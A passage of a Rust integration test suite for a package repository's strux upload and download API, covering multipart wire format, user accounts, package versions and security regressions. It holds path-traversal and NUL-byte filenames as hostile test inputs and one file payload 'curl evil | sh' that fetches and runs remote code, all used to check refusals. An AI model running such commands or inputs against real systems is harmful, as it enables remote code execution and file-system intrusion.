//! The strux surface in the strux client's exact wire format: Go's `mime/multipart`
//! writer layout (text fields first, then `DIR$` file parts), GET requests with a body,
//! answers as `BaseResponse` text or multipart forms. Every status and message of
//! NOTES §5's table, the one domain (bkrepo's API on strux packages), hostile trees on
//! both backends.
use std::collections::BTreeMap;
use std::time::Duration;

use axum::body::Body;
use axum::http::Request;
use serde_json::{json, Value};

use crate::harness::{data, embedded};

/// A multipart body as Go's `multipart.Writer` lays it out: a 60-hex-digit boundary, text
/// fields with only a Content-Disposition, file parts from `CreateFormFile` (quotes and
/// backslashes escaped, `application/octet-stream`), then the closing boundary.
pub struct GoForm {
    boundary: String,
    body: Vec<u8>,
}

fn go_escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

impl GoForm {
    pub fn new() -> Self {
        let boundary: String = (0..30).map(|i| format!("{:02x}", (i * 37 + 11) % 256)).collect();
        GoForm { boundary, body: vec![] }
    }

    fn start(&mut self) {
        let sep = if self.body.is_empty() { "" } else { "\r\n" };
        self.body.extend_from_slice(format!("{sep}--{}\r\n", self.boundary).as_bytes());
    }

    pub fn text(mut self, name: &str, value: &str) -> Self {
        self.start();
        self.body.extend_from_slice(format!("Content-Disposition: form-data; name=\"{}\"\r\n\r\n", go_escape(name)).as_bytes());
        self.body.extend_from_slice(value.as_bytes());
        self
    }

    pub fn file(mut self, field: &str, filename: &str, bytes: &[u8]) -> Self {
        self.start();
        self.body.extend_from_slice(
            format!(
                "Content-Disposition: form-data; name=\"{}\"; filename=\"{}\"\r\nContent-Type: application/octet-stream\r\n\r\n",
                go_escape(field),
                go_escape(filename)
            )
            .as_bytes(),
        );
        self.body.extend_from_slice(bytes);
        self
    }

    /// A file part that names a staged blob instead of carrying the bytes: Go's
    /// `CreatePart` with an `X-Depot-Blob` header and an empty body.
    pub fn staged(mut self, field: &str, filename: &str, digest: &str) -> Self {
        self.start();
        self.body.extend_from_slice(
            format!(
                "Content-Disposition: form-data; name=\"{}\"; filename=\"{}\"\r\nContent-Type: application/octet-stream\r\nX-Depot-Blob: {digest}\r\n\r\n",
                go_escape(field),
                go_escape(filename)
            )
            .as_bytes(),
        );
        self
    }

    pub fn finish(mut self) -> (String, Vec<u8>) {
        self.body.extend_from_slice(format!("\r\n--{}--\r\n", self.boundary).as_bytes());
        (format!("multipart/form-data; boundary={}", self.boundary), self.body)
    }
}

/// An answer: status, content type, body.
pub struct Answer {
    pub status: u16,
    pub content_type: String,
    pub body: Vec<u8>,
}

impl Answer {
    /// The `BaseResponse` of a text/plain answer.
    pub fn base(&self) -> Value {
        assert!(self.content_type.starts_with("text/plain"), "{} {}", self.content_type, self.text());
        serde_json::from_slice(&self.body).unwrap_or_else(|_| panic!("not JSON: {}", self.text()))
    }

    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).to_string()
    }

    /// Asserts status, strux status, success and message.
    pub fn says(&self, http: u16, status: i64, success: bool, message: &str) {
        let b = self.base();
        assert_eq!(
            (self.status, b["status"].as_i64(), b["success"].as_bool(), b["message"].as_str()),
            (http, Some(status), Some(success), Some(message)),
            "{b}"
        );
    }

    /// The parts of a multipart answer: (field, filename, bytes), in order, and what
    /// follows the closing boundary.
    pub fn parts(&self) -> (Vec<(String, Option<String>, Vec<u8>)>, Vec<u8>) {
        let boundary = self.content_type.split("boundary=").nth(1).expect("a multipart answer").to_string();
        let delim = format!("--{boundary}");
        let mut out = vec![];
        let body = &self.body[..];
        let mut pos = find(body, delim.as_bytes(), 0).expect("first boundary");
        loop {
            let after = pos + delim.len();
            if body[after..].starts_with(b"--") {
                return (out, body[after + 2..].to_vec());
            }
            let head_end = find(body, b"\r\n\r\n", after).unwrap();
            let head = String::from_utf8_lossy(&body[after + 2..head_end]).to_string();
            let next = find(body, format!("\r\n{delim}").as_bytes(), head_end + 4).unwrap();
            let content = body[head_end + 4..next].to_vec();
            let field = between(&head, "name=\"").unwrap();
            let filename = between(&head, "filename=\"");
            out.push((field, filename, content));
            pos = next + 2;
        }
    }
}

fn find(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    hay[from..].windows(needle.len()).position(|w| w == needle).map(|i| i + from)
}

fn between(head: &str, start: &str) -> Option<String> {
    let i = head.find(start)? + start.len();
    let rest = &head[i..];
    let mut out = String::new();
    let mut chars = rest.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.push(chars.next()?),
            '"' => return Some(out),
            c => out.push(c),
        }
    }
    None
}

/// Sends a Go form with `method` (a GET carries its body too) to `base + path`.
pub async fn send(base: &str, method: &str, path: &str, form: GoForm) -> Answer {
    let (content_type, body) = form.finish();
    let res = reqwest::Client::new()
        .request(method.parse().unwrap(), format!("{base}{path}"))
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    let content_type = res.headers().get("content-type").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
    Answer { status, content_type, body: res.bytes().await.unwrap().to_vec() }
}

pub fn creds(user: &str, password: &str) -> GoForm {
    GoForm::new().text("username", user).text("password", password)
}

/// The tree the client would send for `tee/` with two files, `dir1` (given in the
/// Windows spelling) with one, and an empty `dir2`.
pub fn tee_tree() -> String {
    json!({"Name": "tee", "FileNames": ["file0.txt", "file00.txt"], "InnerDir": [
        {"Name": "tee\\dir1", "FileNames": ["file1.txt"]},
        {"Name": "tee/dir2"}
    ]})
    .to_string()
}

pub fn upload_form(user: &str, password: &str, version: &str, tree: &str, files: &[(&str, &str, &[u8])]) -> GoForm {
    let mut f = creds(user, password).text("version", version).text("files_info", tree);
    for (dir, name, bytes) in files {
        f = f.file(&format!("DIR${dir}"), name, bytes);
    }
    f
}

pub const TEE_FILES: [(&str, &str, &[u8]); 3] =
    [("tee", "file0.txt", b"zero\n"), ("tee", "file00.txt", b"\x00\x01binary\xff"), ("tee\\dir1", "file1.txt", b"one\n")];

#[tokio::test]
async fn strux_client_round_trip_and_every_answer() {
    let (dir, server, api) = embedded(&[crate::uploads::FILES_ONLY]);
    let base = server.base.clone();
    let b = base.as_str();

    // Users.
    send(b, "POST", "/create-user/", creds("alice", "alice-password")).await.says(201, 1, true, "User alice created successfully.");
    send(b, "POST", "/create-user", creds("alice", "other-password")).await.says(409, 1, false, "User alice already exist.");
    send(b, "GET", "/user-exist/", GoForm::new().text("username", "alice")).await.says(200, 1, true, "Exist");
    send(b, "GET", "/user-exist/", GoForm::new().text("username", "nobody")).await.says(200, 1, false, "Not exist");
    send(b, "GET", "/user-log-in/", creds("alice", "alice-password")).await.says(200, 1, true, "OK");
    send(b, "GET", "/user-log-in/", creds("alice", "wrong-password")).await.says(401, 1, false, "Password mismatch.");
    send(b, "GET", "/user-log-in/", creds("nobody", "x")).await.says(404, 1, false, "User nobody not exist.");
    send(b, "GET", "/user-log-in/", GoForm::new().text("username", "alice")).await.says(400, 0, false, "Form key 'password' not exist");
    // The query string is ignored; the form is what counts.
    send(b, "GET", "/user-exist/?username=alice", GoForm::new()).await.says(400, 0, false, "Form key 'username' not exist");

    // Upload, in the client's layout; a second time is status 2.
    let tree = tee_tree();
    let up = send(b, "POST", "/upload-pkg/", upload_form("alice", "alice-password", "0.0.2", &tree, &TEE_FILES)).await;
    up.says(201, 1, true, "Package tee successfully created.");
    let again = send(b, "POST", "/upload-pkg/", upload_form("alice", "alice-password", "0.0.2", &tree, &TEE_FILES)).await;
    again.says(409, 2, false, "Version 0.0.2 of the tee package already exists.");
    send(b, "POST", "/upload-pkg/", upload_form("alice", "wrong-password", "0.0.3", &tree, &TEE_FILES))
        .await
        .says(401, 1, false, "Password mismatch.");
    send(b, "POST", "/upload-pkg/", upload_form("nobody", "x", "0.0.3", &tree, &TEE_FILES))
        .await
        .says(404, 1, false, "User nobody not exist.");
    // The same files again in another version are stored once (and so is the manifest,
    // which names the same tree and blobs).
    let blobs = || crate::uploads::walk(&dir.path().join("blobs/blobs")).len();
    let before = blobs();
    let up = send(b, "POST", "/upload-pkg", upload_form("alice", "alice-password", "0.0.10", &tree, &TEE_FILES)).await;
    up.says(201, 1, true, "Package tee successfully created.");
    assert_eq!(blobs(), before, "identical files are stored once");

    // exists-package.
    let exists = |pkg: &str, v: &str| GoForm::new().text("username", "alice").text("pkgName", pkg).text("version", v);
    send(b, "GET", "/exists-package/", exists("tee", "0.0.2")).await.says(200, 1, true, "Package tee/0.0.2 successfully found");
    send(b, "GET", "/exists-package/", exists("nope", "0.0.2")).await.says(404, 2, false, "Package nope not exist.");
    send(b, "GET", "/exists-package/", exists("tee", "9.9.9")).await.says(404, 2, false, "Package version 9.9.9 not exist.");

    // package-versions: one field, semver order, nothing after the closing boundary.
    let versions = |user: &str, pkg: &str| GoForm::new().text("username", user).text("pkgName", pkg);
    let v = send(b, "GET", "/package-versions/", versions("alice", "tee")).await;
    assert_eq!(v.status, 200);
    let (parts, trailer) = v.parts();
    assert_eq!(parts.len(), 1);
    assert_eq!((parts[0].0.as_str(), parts[0].1.as_deref()), ("versions", None));
    assert_eq!(serde_json::from_slice::<Value>(&parts[0].2).unwrap(), json!(["0.0.2", "0.0.10"]));
    assert_eq!(trailer, b"\r\n", "nothing follows the closing boundary");
    send(b, "GET", "/package-versions/", versions("alice", "nope")).await.says(404, 0, false, "Package alice/nope not exist");
    send(b, "GET", "/package-versions/", versions("nobody", "tee")).await.says(404, 0, false, "User nobody not exist");

    // download-package: each file with its bytes, then files_info with capitalised keys.
    let download = |v: &str| GoForm::new().text("username", "alice").text("pkgName", "tee").text("version", v);
    let d = send(b, "GET", "/download-package/", download("0.0.2")).await;
    assert_eq!(d.status, 200, "{}", d.text());
    let (parts, _) = d.parts();
    let files: BTreeMap<(String, String), Vec<u8>> = parts
        .iter()
        .filter_map(|(f, name, bytes)| Some(((f.clone(), name.clone()?), bytes.clone())))
        .collect();
    let want: BTreeMap<(String, String), Vec<u8>> = [
        (("DIR$tee".to_string(), "file0.txt".to_string()), b"zero\n".to_vec()),
        (("DIR$tee".into(), "file00.txt".into()), b"\x00\x01binary\xff".to_vec()),
        (("DIR$tee/dir1".into(), "file1.txt".into()), b"one\n".to_vec()),
    ]
    .into_iter()
    .collect();
    assert_eq!(files, want);
    let (last, _, info) = parts.last().unwrap();
    assert_eq!(last, "files_info");
    let info: Value = serde_json::from_slice(info).unwrap();
    assert_eq!(
        info,
        json!({"Name": "tee", "FileNames": ["file0.txt", "file00.txt"], "InnerDir": [
            {"Name": "tee/dir1", "FileNames": ["file1.txt"]}, {"Name": "tee/dir2"}]})
    );
    send(b, "GET", "/download-package/", download("7.7.7")).await.says(404, 0, false, "Package tee/7.7.7 not exist.");

    // One domain: the bkrepo API sees the package, its download, and deletes a version.
    let (s, body) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://alice/tee").await;
    let pkg = data(s, &body);
    assert_eq!((pkg["versions"].as_i64(), pkg["downloads"].as_i64(), pkg["type"].as_str()), (Some(2), Some(1), Some("STRUX")));
    let (s, body) = api.delete("/repository/api/version/delete/strux/packages?packageKey=strux://alice/tee&version=0.0.2").await;
    data(s, &body);
    let (parts, _) = send(b, "GET", "/package-versions/", versions("alice", "tee")).await.parts();
    assert_eq!(serde_json::from_slice::<Value>(&parts[0].2).unwrap(), json!(["0.0.10"]));
    // Listing, search and stage upgrade, as for any package.
    let (s, body) = api.get("/repository/api/package/page/strux/packages?pageSize=10").await;
    assert!(data(s, &body)["records"].as_array().unwrap().iter().any(|p| p["key"] == "strux://alice/tee"));
    let rule = json!({"relation": "AND", "rules": [
        {"field": "projectId", "operation": "EQ", "value": "strux"},
        {"field": "key", "operation": "PREFIX", "value": "strux://alice/"}]});
    let (s, body) = api.post("/repository/api/package/search", json!({"rule": rule, "select": ["key"]})).await;
    assert_eq!(data(s, &body)["records"], json!([{"key": "strux://alice/tee"}]));
    let (s, body) = api
        .post("/repository/api/stage/upgrade/strux/packages/strux%3A%2F%2Falice%2Ftee/0.0.10?tag=release", json!({}))
        .await;
    assert_eq!(data(s, &body), json!(null));
    let (s, body) = api.get("/repository/api/stage/strux/packages?packageKey=strux://alice/tee&version=0.0.10").await;
    assert_eq!(data(s, &body), json!(["@release"]));

    // Another user downloads alice's package, and uploads only into its own namespace.
    send(b, "POST", "/create-user/", creds("bob", "bob-password-1")).await.says(201, 1, true, "User bob created successfully.");
    let d = send(b, "GET", "/download-package/", download("0.0.10")).await;
    assert_eq!(d.status, 200);
    send(b, "POST", "/upload-pkg/", upload_form("bob", "bob-password-1", "0.0.10", &tree, &TEE_FILES))
        .await
        .says(201, 1, true, "Package tee successfully created.");
    let (s, body) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://bob/tee").await;
    assert_eq!(data(s, &body)["versions"], 1);
    let (s, body) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://alice/tee").await;
    assert_eq!(data(s, &body)["versions"], 1, "bob's upload did not touch alice's package");
    // bob holds no grant on the repository: the bkrepo API refuses him a write.
    let (s, _) = api
        .as_user("bob", "bob-password-1")
        .delete("/repository/api/version/delete/strux/packages?packageKey=strux://alice/tee&version=0.0.10")
        .await;
    assert_eq!(s, 403);

    // Passwords.
    let update = |old: &str, new: &str| creds("alice", old).text("newPassword", new);
    send(b, "PUT", "/user-password-update/", update("wrong-password", "next-password")).await.says(401, 1, false, "Old password mismatch.");
    send(b, "PUT", "/user-password-update/", update("alice-password", "alice-password")).await.says(
        400,
        1,
        false,
        "The old and new passwords are the same.",
    );
    send(b, "PUT", "/user-password-update/", update("alice-password", "next-password")).await.says(200, 1, true, "Password updated.");
    send(b, "GET", "/user-log-in/", creds("alice", "next-password")).await.says(200, 1, true, "OK");
    send(b, "PUT", "/user-password-update/", creds("nobody", "x").text("newPassword", "y")).await.says(
        404,
        1,
        false,
        "User nobody not exist.",
    );

    // Deleting the account takes its packages with it.
    send(b, "DELETE", "/user-delete/", creds("alice", "wrong-password")).await.says(401, 1, false, "Password mismatch.");
    send(b, "DELETE", "/user-delete/", creds("nobody", "x")).await.says(404, 1, false, "User nobody not exist.");
    send(b, "DELETE", "/user-delete/", creds("alice", "next-password")).await.says(200, 1, true, "User alice deleted.");
    send(b, "GET", "/user-exist/", GoForm::new().text("username", "alice")).await.says(200, 1, false, "Not exist");
    send(b, "GET", "/exists-package/", exists("tee", "0.0.10")).await.says(404, 2, false, "Package tee not exist.");
    let (s, body) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://bob/tee").await;
    assert_eq!(data(s, &body)["versions"], 1, "bob's package stays");
}


/// Hostile trees and names, in process on one backend: each is a 400 (or 413) in a
/// BaseResponse with status 0, and nothing is stored.
async fn hostile_trees_on(config: depot_core::config::Config) {
    // As on Lambda, with a smaller response limit than its 6 MB.
    let config = depot_core::config::Config { strux_max_files: 4, max_response_bytes: Some(4096), ..config };
    let state = depot_core::http::AppState::open(config, true).await.unwrap();
    let registry = state.registry.clone();
    let app = crate::harness::surfaces(state);
    let user = crate::harness::unique("h");
    let call = |form: GoForm, path: &'static str| {
        let app = app.clone();
        let method = if path.starts_with("/download") { "GET" } else { "POST" };
        async move {
            let (content_type, body) = form.finish();
            let req = Request::builder()
                .method(method)
                .uri(path).header("content-type", content_type).body(Body::from(body)).unwrap();
            let res = tower::ServiceExt::oneshot(app, req).await.unwrap();
            let status = res.status().as_u16();
            let content_type = res.headers()["content-type"].to_str().unwrap().to_string();
            let body = axum::body::to_bytes(res.into_body(), usize::MAX).await.unwrap().to_vec();
            Answer { status, content_type, body }
        }
    };
    call(creds(&user, "hostile-password"), "/create-user/").await.says(201, 1, true, &format!("User {user} created successfully."));
    let one = |tree: Value| tree.to_string();
    let cases: Vec<(&str, String, Vec<(&str, &str, &[u8])>, u16, &str)> = vec![
        ("absolute root", one(json!({"Name": "/tee", "FileNames": ["a"]})), vec![("/tee", "a", b"a")], 400, "absolute"),
        ("dot-dot dir", one(json!({"Name": "tee", "InnerDir": [{"Name": "tee/../../etc", "FileNames": ["a"]}]})), vec![], 400, "invalid segment"),
        ("NUL in a file name", one(json!({"Name": "tee", "FileNames": ["a\u{0}b"]})), vec![], 400, "invalid file name"),
        ("backslash in a file name", one(json!({"Name": "tee", "FileNames": ["a\\b"]})), vec![], 400, "invalid file name"),
        ("duplicate files", one(json!({"Name": "tee", "FileNames": ["a", "a"]})), vec![], 400, "listed twice"),
        ("a dir outside its parent", one(json!({"Name": "tee", "InnerDir": [{"Name": "other"}]})), vec![], 400, "does not extend"),
        ("too many files", one(json!({"Name": "tee", "FileNames": ["a", "b", "c", "d", "e"]})), vec![], 413, "at most 4 files"),
        ("a listed file not sent", one(json!({"Name": "tee", "FileNames": ["a", "b"]})), vec![("tee", "a", b"a")], 400, "was not sent"),
        ("a file sent twice", one(json!({"Name": "tee", "FileNames": ["a"]})), vec![("tee", "a", b"1"), ("tee", "a", b"2")], 400, "sent twice"),
        ("not JSON", "{\"Name\":".to_string(), vec![], 400, "files_info"),
        ("a bad version", one(json!({"Name": "tee", "FileNames": ["a"]})), vec![("tee", "a", b"a")], 400, "invalid version"),
    ];
    for (what, tree, files, http, want) in cases {
        let version = if what == "a bad version" { "../1" } else { "1.0.0" };
        let a = call(upload_form(&user, "hostile-password", version, &tree, &files), "/upload-pkg/").await;
        let b = a.base();
        assert_eq!((a.status, b["status"].as_i64(), b["success"].as_bool()), (http, Some(0), Some(false)), "{what}: {b}");
        assert!(b["message"].as_str().unwrap().contains(want), "{what}: {b}");
    }
    let (p, r) = ("strux", "packages");
    let key = format!("strux://{user}/tee");
    assert!(registry.find_package(p, r, &key).await.unwrap().is_none(), "nothing was stored");
    // Files the tree does not list are not stored; the listed ones are.
    let tree = one(json!({"Name": "tee", "FileNames": ["a"]}));
    let files: Vec<(&str, &str, &[u8])> = vec![("tee", "a", b"a"), ("tee", "extra", b"x"), ("elsewhere", "a", b"y")];
    call(upload_form(&user, "hostile-password", "1.0.0", &tree, &files), "/upload-pkg/").await.says(
        201,
        1,
        true,
        "Package tee successfully created.",
    );
    let v = registry.get_version(p, r, &key, "1.0.0").await.unwrap();
    assert_eq!(v.blobs.len(), 1, "{v:?}");
    // A download larger than the entry point's response limit is refused before it starts,
    // naming where it can be had; a smaller one answers.
    let download = |v: &str| GoForm::new().text("username", &user).text("pkgName", "tee").text("version", v);
    assert_eq!(call(download("1.0.0"), "/download-package/").await.status, 200);
    let big = vec![7u8; 5000];
    let files: Vec<(&str, &str, &[u8])> = vec![("tee", "a", &big)];
    call(upload_form(&user, "hostile-password", "2.0.0", &tree, &files), "/upload-pkg/").await.says(
        201,
        1,
        true,
        "Package tee successfully created.",
    );
    let a = call(download("2.0.0"), "/download-package/").await;
    let b = a.base();
    assert_eq!((a.status, b["status"].as_i64()), (413, Some(0)), "{b}");
    assert!(b["message"].as_str().unwrap().contains("depot serve"), "{b}");
    registry.delete_version(&depot_core::model::Actor::user("root", depot_core::model::Rights::ALL), p, r, &key, "2.0.0").await.unwrap();
    // Garbage collection keeps a tree's files while a version names them, and removes
    // them once none does.
    registry.collect_garbage(false, 0).await.unwrap();
    assert!(registry.blobs.head(&v.blobs[0]).await.unwrap().is_some(), "a named file is kept");
    assert!(registry.blobs.head(&v.blob_key).await.unwrap().is_some(), "and its manifest");
    let admin = depot_core::model::Actor::user("root", depot_core::model::Rights::ALL);
    registry.delete_package(&admin, p, r, &key).await.unwrap();
    registry.collect_garbage(false, 0).await.unwrap();
    assert!(registry.blobs.head(&v.blobs[0]).await.unwrap().is_none(), "an unnamed file goes");
}

#[tokio::test]
async fn strux_hostile_trees_embedded() {
    let dir = tempfile::tempdir().unwrap();
    hostile_trees_on(depot_core::config::Config { data_dir: dir.path().to_path_buf(), ..Default::default() }).await;
}

#[tokio::test]
async fn strux_hostile_trees_aws() {
    hostile_trees_on(crate::harness::aws_config("strux")).await;
}

/// An upload's credentials are checked before its files are read: wrong ones are
/// answered while the client is still sending, so that nobody anonymous can make the
/// server hold a form.
#[tokio::test]
async fn strux_checks_credentials_before_reading_files() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let (_dir, server, _api) = embedded(&[]);
    send(&server.base, "POST", "/create-user/", creds("carl", "carl-password")).await.says(
        201,
        1,
        true,
        "User carl created successfully.",
    );
    let (content_type, body) = upload_form("carl", "wrong-password", "1.0.0", &tee_tree(), &[]).finish();
    // The text fields, then a file part that never ends.
    let mut start = body[..body.len() - format!("--{}--\r\n", content_type.split('=').nth(1).unwrap()).len()].to_vec();
    let boundary = content_type.split('=').nth(1).unwrap().to_string();
    start.extend_from_slice(
        format!("--{boundary}\r\nContent-Disposition: form-data; name=\"DIR$tee\"; filename=\"file0.txt\"\r\n\r\nzero").as_bytes(),
    );
    let head = format!(
        "POST /upload-pkg/ HTTP/1.1\r\nHost: x\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
        start.len() + 5_000_000
    );
    let mut s = tokio::net::TcpStream::connect(server.base.trim_start_matches("http://")).await.unwrap();
    s.write_all(head.as_bytes()).await.unwrap();
    s.write_all(&start).await.unwrap();
    let mut answer = vec![0u8; 4096];
    let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut answer)).await.expect("answered before the body ended").unwrap();
    let answer = String::from_utf8_lossy(&answer[..n]).to_string();
    assert!(answer.starts_with("HTTP/1.1 401") && answer.contains("Password mismatch."), "{answer}");
}

/// A tree over the request limit: its big files go through upload sessions, opened by
/// the strux user itself (no grant needed in the strux repository), and each `DIR$` part
/// names its staged blob. Only the user's own staged blobs and sessions serve it.
async fn large_tree_through_sessions(server: &crate::harness::Server) {
    use crate::uploads::{complete, open, payload, upload};
    let b = server.base.as_str();
    let api = crate::harness::Api::new(b);
    for (u, pw) in [("lena", "lena-password"), ("mark", "mark-password")] {
        send(b, "POST", "/create-user/", creds(u, pw)).await.says(201, 1, true, &format!("User {u} created successfully."));
    }
    let lena = api.as_user("lena", "lena-password");
    let mark = api.as_user("mark", "mark-password");
    // The body limit is 64 KiB: these two are over it, and the tree is too.
    let (big, big2) = (payload(300 << 10, 7), payload(100 << 10, 8));
    let staged = upload(&lena, "strux", "packages", &big).await["done"]["digest"].as_str().unwrap().to_string();
    let staged2 = upload(&lena, "strux", "packages", &big2).await["done"]["digest"].as_str().unwrap().to_string();
    let tree = json!({"Name": "big", "FileNames": ["a.bin", "note.txt"], "InnerDir": [
        {"Name": "big/sub", "FileNames": ["b.bin"]}]})
    .to_string();
    let form = |user: &str, pw: &str, v: &str| {
        creds(user, pw)
            .text("version", v)
            .text("files_info", &tree)
            .staged("DIR$big", "a.bin", &staged)
            .file("DIR$big", "note.txt", b"inline\n")
            .staged("DIR$big/sub", "b.bin", &staged2)
    };
    send(b, "POST", "/upload-pkg/", form("lena", "lena-password", "1.0.0")).await.says(
        201,
        1,
        true,
        "Package big successfully created.",
    );
    let d = send(b, "GET", "/download-package/", GoForm::new().text("username", "lena").text("pkgName", "big").text("version", "1.0.0")).await;
    assert_eq!(d.status, 200, "{}", d.text());
    let (parts, _) = d.parts();
    let files: BTreeMap<(String, String), Vec<u8>> =
        parts.iter().filter_map(|(f, n, bytes)| Some(((f.clone(), n.clone()?), bytes.clone()))).collect();
    let want: BTreeMap<(String, String), Vec<u8>> = [
        (("DIR$big".to_string(), "a.bin".to_string()), big.clone()),
        (("DIR$big".into(), "note.txt".into()), b"inline\n".to_vec()),
        (("DIR$big/sub".into(), "b.bin".into()), big2.clone()),
    ]
    .into_iter()
    .collect();
    assert_eq!(files, want, "exact bytes of every file");
    let (s, body) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://lena/big").await;
    assert_eq!(data(s, &body)["versions"], 1);

    // mark stages in the strux repository too, but not with lena's blobs or sessions.
    let refused = send(b, "POST", "/upload-pkg/", form("mark", "mark-password", "1.0.0")).await;
    assert_eq!((refused.status, refused.base()["status"].as_i64()), (404, Some(0)), "{}", refused.text());
    assert!(refused.base()["message"].as_str().unwrap().contains("user [mark]"), "{}", refused.text());
    absent(&api, "strux://mark/big", "nothing of the refused upload is stored").await;
    let lenas = open(&lena, "strux", "packages", 10, None).await;
    let id = lenas["id"].as_str().unwrap();
    let (s, body) = complete(&mark, id, None).await;
    assert_eq!(s, 403, "{body}");
    let (s, _) = mark.delete(&format!("/blobs/uploads/{id}")).await;
    assert_eq!(s, 403, "another user's session is not mark's to abort");
    // Once mark stages the same bytes himself, they serve his upload (and the record is
    // his: lena would stage them again for another upload).
    for bytes in [&big, &big2] {
        upload(&mark, "strux", "packages", bytes).await;
    }
    send(b, "POST", "/upload-pkg/", form("mark", "mark-password", "1.0.0")).await.says(
        201,
        1,
        true,
        "Package big successfully created.",
    );
    // Only the strux repository is open to staging without a grant; anonymous callers
    // stage nothing.
    let (s, body) = mark.post("/blobs/uploads", json!({"projectId": "strux", "repoName": "other", "size": 3})).await;
    assert_eq!(s, 403, "{body}");
    let (s, _) = api.anonymous().post("/blobs/uploads", json!({"projectId": "strux", "repoName": "packages", "size": 3})).await;
    assert_eq!(s, 401);

    // A part that names a blob and carries bytes, a bad reference, and an inline tree
    // over the limit are refused.
    let both = creds("lena", "lena-password")
        .text("version", "2.0.0")
        .text("files_info", &json!({"Name": "x", "FileNames": ["a"]}).to_string())
        .staged("DIR$x", "a", &staged);
    let (ct, mut body) = both.finish();
    let boundary = ct.split("boundary=").nth(1).unwrap().to_string();
    let at = body.len() - format!("\r\n--{boundary}--\r\n").len();
    body.splice(at..at, b"bytes too".iter().copied());
    let res = reqwest::Client::new().post(format!("{b}/upload-pkg/")).header("content-type", ct).body(body).send().await.unwrap();
    assert_eq!(res.status().as_u16(), 400);
    assert!(res.text().await.unwrap().contains("send one or the other"));
    let bad = creds("lena", "lena-password")
        .text("version", "2.0.0")
        .text("files_info", &json!({"Name": "x", "FileNames": ["a"]}).to_string())
        .staged("DIR$x", "a", "sha256:nope");
    let bad = send(b, "POST", "/upload-pkg/", bad).await;
    assert_eq!(bad.status, 400, "{}", bad.text());
    let inline = upload_form("lena", "lena-password", "3.0.0", &tree, &[("big", "a.bin", &big), ("big", "note.txt", b"x"), ("big/sub", "b.bin", b"y")]);
    let over = send(b, "POST", "/upload-pkg/", inline).await;
    assert_eq!(over.status, 413, "{}", over.text());
    assert!(over.base()["message"].as_str().unwrap().contains("/blobs/uploads"), "{}", over.text());
}

#[tokio::test]
async fn strux_large_tree_through_sessions_embedded() {
    let (_dir, server, _api) = embedded(&[("DEPOT_MAX_BODY_BYTES", "65536")]);
    large_tree_through_sessions(&server).await;
}

#[tokio::test]
async fn strux_large_tree_through_sessions_aws() {
    let (server, _) = crate::harness::aws_server("sx", &[("DEPOT_MAX_BODY_BYTES", "65536")]);
    large_tree_through_sessions(&server).await;
}

/// Opens a request whose body is declared `extra` bytes longer than `prefix`, and sends
/// the prefix: the rest is the caller's to send, or not.
async fn partial(base: &str, method: &str, path: &str, content_type: &str, prefix: &[u8], extra: usize) -> tokio::net::TcpStream {
    use tokio::io::AsyncWriteExt;
    let head = format!(
        "{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
        prefix.len() + extra
    );
    let mut s = tokio::net::TcpStream::connect(base.trim_start_matches("http://")).await.unwrap();
    s.write_all(head.as_bytes()).await.unwrap();
    s.write_all(prefix).await.unwrap();
    s
}

async fn answer_of(s: &mut tokio::net::TcpStream, within: Duration) -> String {
    use tokio::io::AsyncReadExt;
    let mut out = vec![];
    let mut buf = vec![0u8; 8192];
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, s.read(&mut buf)).await {
            Ok(Ok(0)) | Err(_) => break,
            Ok(Ok(n)) => {
                out.extend_from_slice(&buf[..n]);
                if String::from_utf8_lossy(&out).contains("\"status\"") {
                    break;
                }
            }
            Ok(Err(_)) => break,
        }
    }
    String::from_utf8_lossy(&out).to_string()
}

/// An upload whose body is held back after its first file part, while `meanwhile`
/// changes the account, then finished: it must not commit.
async fn upload_across(base: &str, user: &str, password: &str, meanwhile: GoForm, path: &str, method: &str) -> String {
    use tokio::io::AsyncWriteExt;
    let tree = json!({"Name": "held", "FileNames": ["f"]}).to_string();
    let (ct, body) = upload_form(user, password, "1.0.0", &tree, &[("held", "f", b"late bytes")]).finish();
    let cut = body.len() - 40;
    let mut s = partial(base, "POST", "/upload-pkg/", &ct, &body[..cut], 40).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let during = send(base, method, path, meanwhile).await;
    assert_eq!(during.status, 200, "{}", during.text());
    s.write_all(&body[cut..]).await.unwrap();
    answer_of(&mut s, Duration::from_secs(10)).await
}

/// What the attack on the strux surface reproduced, each now refused: another user's
/// namespace through a second `username`, commits that outlive a deletion or a password
/// change, forms held before sign-in, race losers' status, HEAD counting a download,
/// another user's staged bytes.
#[tokio::test]
async fn strux_refuses_what_the_attack_found() {
    let (_dir, server, api) = embedded(&[]);
    let b = server.base.as_str();
    for (u, pw) in [("victim", "victim-password"), ("mallory", "mallory-password"), ("doomed", "doomed-password"), ("rekey", "rekey-password")] {
        send(b, "POST", "/create-user/", creds(u, pw)).await.says(201, 1, true, &format!("User {u} created successfully."));
    }
    let tree = json!({"Name": "tool", "FileNames": ["run.sh"]}).to_string();
    // 1. A second `username` after sign-in, before or after the files, is refused, and the
    // victim's namespace stays empty.
    for late in [false, true] {
        let mut f = creds("mallory", "mallory-password");
        if !late {
            f = f.text("username", "victim");
        }
        f = f.text("version", "1.0.1").text("files_info", &tree).file("DIR$tool", "run.sh", b"curl evil | sh");
        if late {
            f = f.text("username", "victim");
        }
        let a = send(b, "POST", "/upload-pkg/", f).await;
        assert_eq!(a.status, 400, "{}", a.text());
        assert!(a.base()["message"].as_str().unwrap().contains("sent twice"), "{}", a.text());
    }
    absent(&api, "strux://victim/tool", "nothing lands in the victim's namespace").await;

